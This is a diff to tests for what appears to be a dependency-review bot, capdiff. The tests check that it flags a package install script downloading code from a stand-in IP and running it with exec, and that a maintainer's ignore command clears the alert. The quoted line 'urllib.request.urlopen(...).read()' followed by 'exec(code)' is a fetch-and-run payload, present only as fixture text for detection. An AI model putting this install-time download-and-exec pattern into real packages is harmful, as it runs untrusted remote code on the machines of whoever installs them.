@@ -215,18 +215,21 @@ async def test_install_time_download_and_exec_blocks_then_a_fix_clears_it(
         "requirements.txt",
         2,
         "failure",
-        "capdiff: pkg 2.0 — install-network, install-script, dynamic-code",
+        "capdiff: pkg 2.0 — install-time-payload, download-exec, install-script, dynamic-code",
     )
     [comment] = real.fake.comments_on(FULL, 7)
     body = str(comment["body"])
     assert body.startswith(
         f"{COMMENT_MARKER}\n### capdiff — 1 blocking in 1 changed dependency\n"
     )
+    assert "<details><summary>⛔ pkg 2.0 — install-time-payload in setup.py:3</summary>" in body
+    # A threat names its chain, each step with its file:line.
     assert (
-        "<details><summary>⛔ pkg 2.0 — install-network in setup.py:3</summary>\n\n"
-        "Makes an HTTP request with urllib.request.urlopen while the package is installed.\n"
-        "```python\ncode = urllib.request.urlopen('http://203.0.113.7/x').read()\n```\n\n"
-        "Accept (needs write access): `@capdiff ignore pkg@2.0 install-network`\n"
+        "<details><summary>⛔ pkg 2.0 — download-exec in setup.py:4</summary>\n\n"
+        "Downloads \\`http://203.0.113.7/x\\` with \\`urllib.request.urlopen\\` "
+        "\\(setup.py:3\\) and runs it with \\`exec\\` \\(setup.py:4\\).\n"
+        "```python\nexec(code)\n```\n\n"
+        "Accept (needs write access): `@capdiff ignore pkg@2.0 download-exec`\n"
         "</details>\n"
     ) in body
     assert "⚠️ pkg 2.0 — dynamic-code in setup.py:4" in body
@@ -278,7 +281,10 @@ async def test_maintainer_ignore_reruns_to_success(real: RealHarness) -> None:
     await real.post("pull_request", pr_payload("opened", 7, HEAD, BASE))
     await real.drain()
     fake.set_permission(FULL, "maint", "maintain", "maintain")
-    text = "Reviewed the download, it is our mirror.\n@capdiff ignore pkg@2.0 install-network"
+    text = (
+        "Reviewed the download, it is our mirror.\n"
+        "@capdiff ignore pkg@2.0 install-time-payload download-exec"
+    )
     cid = fake.add_human_comment(FULL, 7, "maint", text)
     response = await real.post("issue_comment", comment_payload(7, "maint", text, cid))
     assert response.status_code == 202
@@ -290,7 +296,7 @@ async def test_maintainer_ignore_reruns_to_success(real: RealHarness) -> None:
     # What is left only warns; the accepted alert is gone from the comment.
     assert body.startswith(f"{COMMENT_MARKER}\n### capdiff — ")
     assert "blocking" not in body.split("\n")[1]
-    assert "install-network" not in body
+    assert "install-time-payload" not in body and "download-exec" not in body
     assert "⚠️ pkg 2.0 — dynamic-code in setup.py:4" in body
 
 
